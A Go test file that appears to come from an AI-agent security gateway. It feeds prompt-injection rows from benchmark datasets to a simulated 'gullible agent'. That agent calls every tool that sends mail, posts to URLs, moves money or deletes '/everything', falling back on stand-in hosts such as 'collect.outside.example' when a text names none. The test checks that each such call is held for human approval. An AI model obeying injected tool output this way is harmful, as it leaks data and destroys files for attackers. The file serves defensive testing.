package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
)

// injection is a row of a collection.
type injection struct {
	ID, Set, Text string
	Label         int
}

// injections reads rows: those of the sample, or all of the file that the environment
// names. Other sets than these two collections' are left out.
func injections(t *testing.T) (attacks, benign []injection) {
	t.Helper()
	path := os.Getenv("SALLYPORT_INJECTIONS")
	if path == "" {
		path = "testdata/injection/sample.jsonl"
	}
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	lines := bufio.NewScanner(bytes.NewReader(text))
	lines.Buffer(nil, 1<<20)
	for lines.Scan() {
		var row injection
		if err := json.Unmarshal(lines.Bytes(), &row); err != nil {
			t.Fatal(err)
		}
		_, set, _ := strings.Cut(row.Set, "_")
		switch {
		case row.Text == "" || !strings.HasPrefix(set, "agentdojo") && !strings.HasPrefix(set, "asb"):
		case row.Label == 1:
			attacks = append(attacks, row)
		default:
			benign = append(benign, row)
		}
	}
	if err := lines.Err(); err != nil || len(attacks) < 200 || len(benign) < 100 {
		t.Fatalf("%s: %d rows with injections, %d without, %v", path, len(attacks), len(benign), err)
	}
	return attacks, benign
}

// What a gullible agent finds in a text to call tools with; it has nothing to do with
// what the system looks for.
var (
	mailIn   = regexp.MustCompile(`[\w.+-]+@[\w-]+\.[\w.-]*\w`)
	linkIn   = regexp.MustCompile(`(?:https?://|www\.)[^\s"'<>]+`)
	numberIn = regexp.MustCompile(`[A-Z]{2}\d{10,}|\d{6,}|[A-Z]{2}\d{2}(?: \w{4}){3,}`)
	fileIn   = regexp.MustCompile(`[\w-]+\.(?:txt|pdf|docx|csv|html|json)`)
)

// obedience is what a gullible agent calls a sink with after it has read a text.
func obedience(tool officeTool, text string) map[string]string {
	find := func(in *regexp.Regexp, otherwise string) string {
		if found := in.FindString(text); found != "" {
			return found
		}
		return otherwise
	}
	values := map[string]string{
		"to": find(mailIn, "boss@outside.example"), "subject": "As you asked", "body": text[:min(len(text), 200)],
		"url": find(linkIn, "https://collect.outside.example/x"), "account": find(numberIn, "US133000000121212121212"),
		"amount": "50", "path": find(fileIn, "/everything"), "password": "new_password",
	}
	arguments := make(map[string]string)
	for _, name := range tool.arguments {
		arguments[name] = strings.ToValidUTF8(values[name], "?")
	}
	return arguments
}

// sinkTally is how sinks ended for one set of rows.
type sinkTally struct{ rows, asked, approvals, byValue, otherwise int }

// The gullible agent reads each injection as what a tool has given, and then does all
// that any text could ask for: it calls every tool that destroys or sends, with what
// it finds in the text. None of these calls is done without an approval.
//
// Contexts are believed here from their start (carry: 0s), so that each row is stopped
// by what its own context has read and not by what another one has.
func TestTheGullibleAgent(t *testing.T) {
	t.Parallel()
	attacks, _ := injections(t)
	texts := make([]string, len(attacks))
	for i, row := range attacks {
		texts[i] = row.Text
	}
	o := newOffice(texts)
	e, at, authAt := openOffice(t, o, "seen: {carry: 0s}, approvals: {max_pending: 1000}")
	keys, client := e.keys(authAt), connections(t)
	w := &worker{t: t, edge: at}

	// The same agent is not stopped before it has read anything: the calls are good.
	_, key := createKey(t, keys, "control", "admin")
	w.agent, w.context = agent{client, key, "192.0.2.7"}, "control"
	for _, tool := range sinks() {
		if got := w.call(tool.name, obedience(tool, "")); !got.done {
			t.Fatalf("%s in a new context: got %+v, want it done", tool.name, got)
		}
	}
	before := o.executions()
	if before != int64(len(sinks())) {
		t.Fatalf("%d executions in a new context, want %d", before, len(sinks()))
	}

	tallies := make(map[string]*sinkTally)
	readers := []string{"read_mail", "read_page", "read_log"}
	for i, row := range attacks {
		if i%150 == 0 { // so many calls can wait for an approval for one principal
			_, key := createKey(t, keys, fmt.Sprintf("agent-%d", i), "admin")
			w.agent.key = key
		}
		sum := tallies[row.Set]
		if sum == nil {
			sum = new(sinkTally)
			tallies[row.Set] = sum
		}
		sum.rows++
		w.context = fmt.Sprintf("task-%d", i)
		read := w.call(readers[i%len(readers)], map[string]string{"id": fmt.Sprint(i)})
		if !read.done || !strings.Contains(read.text, "<data-") {
			t.Fatalf("%s: got %+v, want it read in an envelope", row.ID, read)
		}
		for _, tool := range sinks() {
			got := w.call(tool.name, obedience(tool, row.Text))
			sum.asked++
			switch {
			case got.done:
				t.Errorf("%s: %s was done without an approval", row.ID, tool.name)
			case got.reason == "APPROVAL_REQUIRED":
				sum.approvals++
				if got.policy == "untrusted-values" {
					sum.byValue++
				}
			default:
				sum.otherwise++
				t.Errorf("%s: %s was refused with %q %q, want an approval to be asked for", row.ID, tool.name, got.reason, got.text)
			}
		}
	}
	if done := o.executions() - before; done != 0 {
		t.Errorf("%d calls that destroy or send were done, want none", done)
	}
	var table strings.Builder
	var all sinkTally
	for _, set := range slices.Sorted(maps.Keys(tallies)) {
		s := tallies[set]
		fmt.Fprintf(&table, "%-36s %6d %8d %10d %9d\n", set, s.rows, s.asked, s.approvals, s.byValue)
		all.rows, all.asked, all.approvals, all.byValue = all.rows+s.rows, all.asked+s.asked, all.approvals+s.approvals, all.byValue+s.byValue
	}
	t.Logf("\n%-36s %6s %8s %10s %9s\n%s%-36s %6d %8d %10d %9d\ndone without an approval: %d", "set", "rows", "calls", "approvals", "by value",
		table.String(), "all", all.rows, all.asked, all.approvals, all.byValue, o.executions()-before)
}
